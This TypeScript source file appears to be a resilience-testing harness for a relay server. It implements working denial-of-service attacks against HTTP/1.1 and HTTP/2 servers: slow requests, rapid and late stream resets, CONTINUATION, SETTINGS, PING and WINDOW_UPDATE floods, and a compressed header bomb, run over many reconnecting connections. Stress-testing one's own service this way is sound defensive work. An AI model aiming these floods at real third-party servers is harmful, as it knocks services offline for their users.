import { setTimeout as sleep } from "node:timers/promises";
import { AttackConnection, type AttackScript } from "./attack-connection.ts";
import {
  CANCEL,
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  literalHeader,
  OPENING,
  PREFACE,
  rememberedHeader,
  repeatedHeader,
  requestHeaders,
  uint32,
} from "./http2-frames.ts";
import { STREAM_CONFIG_SPEC } from "./raw-grpc-client.ts";
import { rpcFrame } from "./rpc-frames.ts";
import { encodeRequest } from "./spec-messages.ts";

/** The ports of the relay under attack. */
export const HELD_KEY = "secret-held";

/** The order for an attacker. */
export interface AttackOrder {
  readonly attack: AttackName;
  readonly url: string;
  readonly durationMs: number;
  /** Connections open at one time. One that the server closes is opened again. */
  readonly connections: number;
  /** Units that each connection sends: frames of a flood, bytes of a slow request. */
  readonly perSecond: number;
}

export interface AttackResult {
  readonly sent: number;
  /** Connections opened in total, and how many of them the server closed. */
  readonly connections: number;
  readonly closedByServer: number;
}

const ask = (streamId: number, ...more: Buffer[]): Buffer => {
  const headers = Buffer.concat([requestHeaders("GET", "/v1/health"), ...more]);
  return frame(FRAME.headers, END_HEADERS | END_STREAM, streamId, headers);
};
const streamOf = (number: number): number => 2 * number + 1;

/** A call whose request is not complete. */
const call = (streamId: number): Buffer =>
  frame(
    FRAME.headers,
    END_HEADERS,
    streamId,
    requestHeaders("POST", STREAM_CONFIG_SPEC, { "content-type": "application/grpc" }),
  );

/** A complete call, for a key that is cached. */
const wholeCall = (streamId: number): Buffer =>
  Buffer.concat([call(streamId), frame(FRAME.data, END_STREAM, streamId, HELD_REQUEST)]);

/** Headers without an end. */
const endless = (value: string) => (number: number) =>
  number === 0
    ? frame(FRAME.headers, 0, 1, requestHeaders("GET", "/v1/health"))
    : frame(FRAME.continuation, 0, 1, literalHeader(`x-${number}`, value));

const http2 = (unit: (number: number) => Buffer): AttackScript => ({
  opening: OPENING,
  unit,
  alpn: "h2",
  isDeaf: false,
});

const NOTHING = Buffer.alloc(0);
const KILOBYTE = "x".repeat(1_000);
const LARGE_HEADERS = Array.from({ length: 15 }, (_, at) => literalHeader(`x-${at}`, KILOBYTE));
const BOMB = [rememberedHeader("x-bomb", KILOBYTE), repeatedHeader(4_000)];
const HELD_REQUEST = rpcFrame(encodeRequest({ sdkKey: HELD_KEY, version: 2 }));
/** A call is cancelled after this many further calls: it has its response by then. */
const LATE_BY = 100;
const INITIAL_WINDOW = Buffer.from([0, 4, 0, 1, 0, 0]);

export const ATTACKS = {
  idle: { opening: NOTHING, unit: () => NOTHING, alpn: "http/1.1", isDeaf: false },
  "slow request": {
    opening: Buffer.from("GET /v1/health HTTP/1.1\r\nHost: localhost\r\nX-Slow: "),
    unit: () => Buffer.from("x"),
    alpn: "http/1.1",
    isDeaf: false,
  },
  pipelining: {
    opening: NOTHING,
    unit: () => Buffer.from("GET /v1/health HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    alpn: "http/1.1",
    isDeaf: false,
  },
  "slow preface": {
    opening: PREFACE.subarray(0, 3),
    unit: (number) => PREFACE.subarray(3 + number, 4 + number),
    alpn: "h2",
    isDeaf: false,
  },
  "slow HEADERS": http2(endless("y")),
  "rapid reset": http2((number) =>
    Buffer.concat([call(streamOf(number)), frame(FRAME.rstStream, 0, streamOf(number), uint32(CANCEL))]),
  ),
  "late reset": http2((number) => {
    const late = number - LATE_BY;
    const end = late < 0 ? NOTHING : frame(FRAME.rstStream, 0, streamOf(late), uint32(CANCEL));
    return Buffer.concat([wholeCall(streamOf(number)), end]);
  }),
  "CONTINUATION flood": http2(endless(KILOBYTE)),
  // The server must respond to each of these two, to a client that does not read.
  "SETTINGS flood": { ...http2(() => frame(FRAME.settings, 0, 0, INITIAL_WINDOW)), isDeaf: true },
  "PING flood": { ...http2(() => frame(FRAME.ping, 0, 0, Buffer.alloc(8))), isDeaf: true },
  "WINDOW_UPDATE flood": http2(() => frame(FRAME.windowUpdate, 0, 0, uint32(1))),
  // A few KB on the wire, 4 MB decompressed.
  "header bomb": http2((number) => ask(streamOf(number), ...BOMB)),
  "large headers": http2((number) => ask(streamOf(number), ...LARGE_HEADERS)),
} as const satisfies Record<string, AttackScript>;

export type AttackName = keyof typeof ATTACKS;

const TICK_MS = 10;
const OPENED_AT_ONCE = 50;
/** A pause, so that an attacker that is cut off repeatedly does not become a flood of connections. */
const REOPENED_PER_TICK = 4;
const OPENING_MS = 10_000;

/** Attacks until the time is over. `onStarted` is called when all connections are open or rejected. */
export async function runAttack(order: AttackOrder, onStarted: () => void): Promise<AttackResult> {
  const { url, attack, durationMs, perSecond } = order;
  const open = () => new AttackConnection(url, ATTACKS[attack]);
  const connections: AttackConnection[] = [];
  const giveUpAt = performance.now() + OPENING_MS;
  const opening = () => connections.filter(({ state }) => state === "opening").length;
  while ((connections.length < order.connections || opening() > 0) && performance.now() < giveUpAt) {
    const more = Math.min(OPENED_AT_ONCE - opening(), order.connections - connections.length);
    for (let number = 0; number < more; number++) connections.push(open());
    await sleep(1);
  }
  onStarted();
  let [sent, closedByServer] = [0, 0];
  const endAt = performance.now() + durationMs;
  while (performance.now() < endAt) {
    let reopened = 0;
    for (const [at, connection] of connections.entries()) {
      sent += connection.send(perSecond);
      if (connection.state !== "closed" || reopened === REOPENED_PER_TICK) continue;
      reopened++;
      closedByServer++;
      connections[at] = open();
    }
    await sleep(TICK_MS);
  }
  for (const connection of connections) connection[Symbol.dispose]();
  return { sent, connections: order.connections + closedByServer, closedByServer };
}
